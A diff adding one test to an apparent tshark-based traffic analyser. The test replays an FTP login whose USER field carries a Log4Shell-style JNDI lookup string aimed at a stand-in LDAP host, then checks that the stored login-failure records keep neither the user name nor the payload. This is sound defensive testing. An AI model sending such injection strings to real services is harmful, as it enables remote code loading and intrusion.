@@ -222,6 +222,20 @@ def test_user_name_is_no_login(told, tshark, installed_tshark):
     assert [f["host"] for f in record["findings"] if f["rule"] == "injection"] == [talk.client.text]
 
 
+def test_injection_is_nobody(told, tshark, installed_tshark):
+    """On a port where no dissector reads FTP: what is refused is not that of whom was named before."""
+    talk = Talk(port=2121)
+    control = talk.connection()
+    control.server(b"220 FTP ready\r\n").client(b"USER bob\r\n").server(b"331 password\r\n")
+    control.client(b"USER ${jndi:ldap://192.0.2.1/a}\r\n").server(b"331 password\r\n")
+    control.client(b"PASS x\r\n").server(b"530 no\r\n").close()
+    told(talk.frames())
+    subjects = tshark.rows(installed_tshark.folder / "manners.pcap",
+                           "SELECT subject FROM observations WHERE kind = 'login-failure'", ())
+    assert [subject.split("\t")[0].split()[0] for subject, in subjects] == ["FTP"]
+    assert "bob" not in str(subjects) and "jndi" not in str(subjects)
+
+
 def test_nothing_gets_out(told, tshark, installed_tshark):
     """Neither paths nor queries, header fields or bodies are in the store or in a report."""
     talk = Talk()
